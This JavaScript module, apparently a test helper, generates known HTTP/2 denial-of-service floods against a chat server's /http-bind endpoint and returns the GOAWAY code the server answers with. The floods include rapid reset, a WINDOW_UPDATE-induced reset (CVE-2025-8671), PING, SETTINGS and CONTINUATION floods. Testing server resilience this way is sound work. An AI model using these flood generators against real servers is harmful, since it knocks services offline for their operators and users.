// flood — the known floods of HTTP/2, each a kind of frame that is legal by itself.
import * as h2 from './http2_connection.mjs';

const { END_HEADERS, END_STREAM, frame, headerBlock } = h2;
export const ENHANCE_YOUR_CALM = 11;

const REQUEST = headerBlock({ ':method': 'POST', ':scheme': 'https', ':authority': 'chat.example',
                              ':path': '/http-bind', 'content-type': 'text/xml' });
const number = (value) => {
    const bytes = Buffer.alloc(4);
    bytes.writeUInt32BE(value);
    return bytes;
};
const times = (count, make) => () => Array.from({ length: count }, make);

// What begins each, and what then comes without end; `next` gives numbers for streams.
const KINDS = {
    'reset': { more: (next) => times(50, () => {
        const id = next();
        return Buffer.concat([frame(h2.HEADERS, END_HEADERS, id, REQUEST),
                              frame(h2.RST_STREAM, 0, id, number(8))]);
    }) },
    // Streams that we have to reset, because of what is done to them (CVE-2025-8671).
    'reset-by-fault': { more: (next) => times(50, () => {
        const id = next();
        return Buffer.concat([frame(h2.HEADERS, END_HEADERS, id, REQUEST),
                              frame(h2.WINDOW_UPDATE, 0, id, number(0x7fffffff))]);
    }) },
    'settings': { more: () =>
        times(50, () => frame(h2.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255]))) },
    'ping': { more: () => times(50, () => frame(h2.PING, 0, 0, Buffer.alloc(8))) },
    'empty-data': { first: frame(h2.HEADERS, END_HEADERS, 1, REQUEST),
                    more: () => times(50, () => frame(h2.DATA, 0, 1)) },
    'priority': { more: (next) =>
        times(50, () => frame(h2.PRIORITY, 0, next(), Buffer.from([0, 0, 0, 0, 7]))) },
    'window-update': { more: () => times(500, () => frame(h2.WINDOW_UPDATE, 0, 0, number(1))) },
    'unknown-frames': { more: () => times(50, () => frame(0xbe, 0, 0)) },
    // Without END_HEADERS, for ever.
    'header-block': { first: frame(h2.HEADERS, END_STREAM, 1, REQUEST),
                      more: () => times(5, () => frame(h2.CONTINUATION, 0, 1)) },
};
export const FLOODS = Object.keys(KINDS);

// From `attacker`, an Http2Frames, until the other side ends it; the code of its GOAWAY.
export function flood(attacker, kind) {
    const { first, more } = KINDS[kind];
    let stream = 1;
    if (first) attacker.send(first);
    return attacker.flood(more(() => { stream += 2; return stream; }));
}
